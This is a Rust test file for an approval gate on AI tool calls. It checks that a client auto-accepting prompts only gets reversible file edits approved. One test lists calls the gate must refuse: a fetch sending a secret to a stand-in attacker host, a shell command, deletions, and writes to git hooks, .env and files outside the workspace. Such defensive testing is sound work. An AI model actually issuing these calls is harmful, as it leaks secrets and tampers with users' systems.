//! A client that says yes by itself agrees to edits that can be taken back, and to nothing else.

use std::fs;
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::harness::Toolgate;
use crate::mcp_client::{Client, text};

const SERVER: &str = r#"
import json, sys
for line in sys.stdin:
    m = json.loads(line); i, me = m.get("id"), m.get("method")
    r = {}
    if me == "initialize":
        r = {"protocolVersion": m["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "s", "version": "1"}}
    elif me == "tools/list":
        r = {"tools": [{"name": name, "description": "does it", "inputSchema": {"type": "object"}} for name in ("do", "write_file")]}
    elif me == "tools/call":
        r = {"content": [{"type": "text", "text": "D1D IT"}]}
    if i is not None:
        print(json.dumps({"jsonrpc": "2.0", "id": i, "result": r}), flush=True)
"#;

/// Calls a tool as a client that says yes to every form. Returns the result and what was asked.
fn called(client: &mut Client, tool: &str, args: &Value) -> (String, Vec<String>) {
    let id = client.request("tools/call", &json!({ "name": tool, "arguments": args }));
    let mut asked = Vec::new();
    loop {
        let is_result = |message: &Value| message["id"] == json!(id) && message["method"].is_null();
        let message =
            client.next(|message| is_result(message) || message["method"] == "elicitation/create");
        if is_result(&message) {
            return (text(&message["result"]).to_owned(), asked);
        }
        if message["method"] == "elicitation/create" {
            asked.push(message["params"]["message"].as_str().unwrap_or_default().to_owned());
            let yes = json!({ "action": "accept", "content": { "decision": "once" } });
            client.send(&json!({ "jsonrpc": "2.0", "id": message["id"], "result": yes }));
        }
    }
}

/// Returns the path of Python.
pub(crate) fn python3() -> PathBuf {
    let places = ["/usr/bin/python3", "/usr/local/bin/python3"].map(PathBuf::from);
    let found = places.into_iter().find(|python| python.exists());
    found.expect("Python is installed")
}

fn configured(more: &str) -> Toolgate {
    let toolgate = Toolgate::with_files(&[("a.txt", "one\n")]);
    fs::write(toolgate.outside("s.py"), SERVER).unwrap();
    let server = toolgate.outside("s.py");
    let config = format!(
        "[approvals]\nwait = 1\n{more}\n[servers.s]\ncommand = \"{}\"\nargs = [\"{}\"]\n",
        python3().display(),
        server.display()
    );
    fs::write(toolgate.home("config.toml"), config).unwrap();
    toolgate
}

fn forms() -> Value {
    json!({ "elicitation": { "form": {} } })
}

#[test]
fn nothing_but_edits_is_agreed_to_by_a_client_alone() {
    let toolgate = configured("");
    let mut client = Client::connect_as(&toolgate, &[], &forms());
    let outside = toolgate.outside("x.txt");
    for (tool, args) in [
        ("mcp__s__do", json!({})),
        ("mcp__s__write_file", json!({ "path": "b.txt", "content": "x" })),
        ("web_fetch", json!({ "url": "https://attacker.invalid/?secret" })),
        ("shell", json!({ "command": "touch b" })),
        ("delete_file", json!({ "path": "a.txt" })),
        ("write_file", json!({ "path": outside, "content": "x" })),
        ("write_file", json!({ "path": ".mcp.json", "content": "{}" })),
        ("write_file", json!({ "path": ".git/hooks/pre-commit", "content": "x" })),
        ("write_file", json!({ "path": ".env", "content": "A=1" })),
        ("read_file", json!({ "path": "/etc/hostname" })),
    ] {
        let (result, asked) = called(&mut client, tool, &args);
        assert_eq!(asked, [""; 0], "{tool} {args}: {result}");
        assert!(!result.contains("D1D IT"), "{tool}");
    }
    assert!(!outside.exists() && toolgate.path("a.txt").exists());
    let edit = json!({ "path": "a.txt", "edits": [{ "target": "one", "replacement": "two" }] });
    for (tool, args) in
        [("write_file", json!({ "path": "b.txt", "content": "x\n" })), ("edit_file", edit)]
    {
        client.call("read_file", &json!({ "path": "a.txt" }));
        let (result, asked) = called(&mut client, tool, &args);
        assert_eq!(asked.len(), 1, "{tool}: {result}");
        assert!(!result.starts_with("Error"), "{tool}: {result}");
    }
}

#[test]
fn a_tool_of_a_server_that_is_called_like_an_edit_is_not_one() {
    let toolgate = configured("");
    let mut client = Client::start_with(&toolgate, &[], &["--no-prefix"]);
    client.initialize("2025-11-25", &forms());
    let args = json!({ "path": "b.txt", "content": "x" });
    let (result, asked) = called(&mut client, "write_file", &args);
    assert_eq!(asked, [""; 0]);
    assert!(!result.contains("D1D IT"), "{result}");
}

#[test]
fn an_owner_who_trusts_answers_of_clients_sees_all_arguments() {
    let toolgate = configured("elicitation = \"trust\"");
    let mut client = Client::connect_as(&toolgate, &[], &forms());
    let secret = format!("{}END", "x".repeat(300));
    let args = json!({ "to": "everybody", "text": secret, "force": true, "lines": "a\nb" });
    let (result, asked) = called(&mut client, "mcp__s__do", &args);
    assert!(result.contains("D1D IT"), "{result}");
    assert!(asked[0].contains("\"force\": true") && asked[0].contains("END"), "{}", asked[0]);
    // What does not fit is said to be left out.
    let args = json!({ "text": "y".repeat(9_000), "last": "z" });
    let (_, asked) = called(&mut client, "mcp__s__do", &args);
    assert!(asked[0].contains("toolgate approvals show"), "{}", asked[0]);
}
